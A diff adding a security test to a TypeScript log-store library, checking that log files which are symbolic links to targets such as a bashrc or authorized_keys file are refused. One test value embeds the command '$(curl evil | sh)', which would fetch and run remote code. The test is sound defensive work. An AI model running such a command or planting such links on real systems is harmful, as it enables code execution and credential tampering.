@@ -3,7 +3,7 @@
  * log: each is refused with a typed error that changes nothing, or read as the caller
  * meant it, never half-taken or silently changed.
  */
-import { appendFileSync, readdirSync } from 'node:fs';
+import { appendFileSync, existsSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
@@ -486,5 +486,32 @@ describe('store methods inside a transaction', () => {
     expect((err as Error).message).toMatch(/check\(\) cannot be called inside a transaction/);
     expect(store.check()).toEqual({ ok: true, problems: [] });
     store.close();
+  });
+});
+
+describe('a log that is a symbolic link', () => {
+  it('is never followed (a link committed to git could name ~/.bashrc): opening the store names the link, and nothing is written through it', () => {
+    const { store, dir } = openStore();
+    store.close();
+    const outside = tempDir();
+    const bashrc = join(outside, 'bashrc');
+    writeFileSync(bashrc, 'export PS1="$ "'); // no final newline: a reader ending the "torn" line would write one
+    symlinkSync(bashrc, join(dir, 'notes.jsonl'));
+    const err = thrown(() => Store.open(dir, { durability: 'none', logger: quietLogger() }));
+    expect(err).toMatchObject({ code: 'IO', data: { errno: 'ELOOP' } });
+    expect(err.message).toMatch(/notes\.jsonl: it is a symbolic link, and TaskStore does not follow links for its logs/);
+    expect(err.hint).toMatch(/replace the link with the file/);
+    expect(readFileSync(bashrc, 'utf8')).toBe('export PS1="$ "');
+
+    // A dangling link (its target does not exist yet): a write would have created the target.
+    rmSync(join(dir, 'notes.jsonl'));
+    const target = join(outside, 'authorized_keys');
+    symlinkSync(target, join(dir, 'other.jsonl'));
+    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
+    const writeErr = thrown(() => reopened.collection({ name: 'other' }).create({ title: '$(curl evil | sh)' }));
+    expect(writeErr).toMatchObject({ code: 'IO', data: { errno: 'ELOOP' } });
+    expect(existsSync(target)).toBe(false);
+    reopened.collection({ name: 'notes' }).create({ id: 'fine' }); // other logs work
+    reopened.close();
   });
 });
